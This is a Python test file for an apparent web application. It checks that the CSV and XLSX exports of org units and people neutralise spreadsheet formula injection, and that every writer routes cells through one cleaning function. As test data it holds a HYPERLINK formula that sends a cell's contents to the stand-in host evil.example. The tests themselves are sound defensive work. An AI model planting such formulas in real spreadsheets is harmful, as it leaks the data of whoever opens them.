"""Exports that cannot attack their readers (issue 15): every csv and xlsx writer
cleans control characters, then neutralises a formula start — one function,
app/kit/cells.py, used by every writer (a guard walks app/ for writers)."""

import csv
import io
import re
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from app.config import Settings
from app.kit.cells import safe_cell
from tests.support.factory import make_person, make_unit
from tests.support.world import World, build_world

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
APP = Path(__file__).resolve().parents[1] / "app"


@pytest.fixture
async def world(db: AsyncSession, settings: Settings) -> World:
    return await build_world(db, settings)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("\x01" + HYPERLINK, "'" + HYPERLINK),
        ("\x00\x1f+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tX", "'\tX"),
        ("\rX", "'\rX"),
        ("红星社区", "红星社区"),
        ("a=b", "a=b"),
        ("a\x07b", "ab"),
    ],
)
def test_safe_cell(raw: str, shown: str) -> None:
    assert safe_cell(raw) == shown


@pytest.mark.parametrize("value", [None, 0, -5, 1.5, True])
def test_non_text_is_left_alone(value: object) -> None:
    assert safe_cell(value) is value


def _csv_cells(response: httpx.Response) -> list[str]:
    assert response.status_code == 200, response.text
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response: httpx.Response) -> list[tuple[str, object]]:
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    return [(c.data_type, c.value) for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]


async def test_org_unit_export_neutralises_a_formula_name(
    client: httpx.AsyncClient, db: AsyncSession, world: World
) -> None:
    await make_unit(db, "grid", world.unit("c1"), name=HYPERLINK)
    url = "/api/v1/org-units/export"
    cells = _csv_cells(await client.get(url, params={"format": "csv"}, headers=world["admin"]))
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    xlsx = _xlsx_cells(await client.get(url, params={"format": "xlsx"}, headers=world["admin"]))
    assert ("s", "'" + HYPERLINK) in xlsx
    assert not [cell for cell in xlsx if cell[0] == "f"]


async def test_people_export_cleans_before_it_checks(
    client: httpx.AsyncClient, db: AsyncSession, world: World
) -> None:
    # Names reach the table through imports and older versions too, not only the API.
    await make_person(db, world.unit("h1"), name="\x01" + HYPERLINK)
    url = "/api/v1/people/export"
    cells = _csv_cells(await client.get(url, params={"format": "csv"}, headers=world["admin"]))
    assert "'" + HYPERLINK in cells
    assert not any(c.lstrip("\x01").startswith("=") for c in cells)
    xlsx = _xlsx_cells(await client.get(url, params={"format": "xlsx"}, headers=world["admin"]))
    assert ("s", "'" + HYPERLINK) in xlsx
    assert not [cell for cell in xlsx if cell[0] == "f"]


# A module that writes a csv or xlsx file and the reason it may skip app/kit/cells.py.
NOT_EXPORTS = {
    "hierarchy/importexport/plan.py": "an internal spool of the import, read back by us",
}
WRITES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")


def test_every_writer_uses_the_one_function() -> None:
    offenders = [
        str(path.relative_to(APP))
        for path in sorted(APP.rglob("*.py"))
        if WRITES.search(text := path.read_text(encoding="utf-8"))
        and "app.kit.cells" not in text
        and str(path.relative_to(APP)) not in NOT_EXPORTS
        and path.name != "cells.py"
    ]
    assert offenders == []
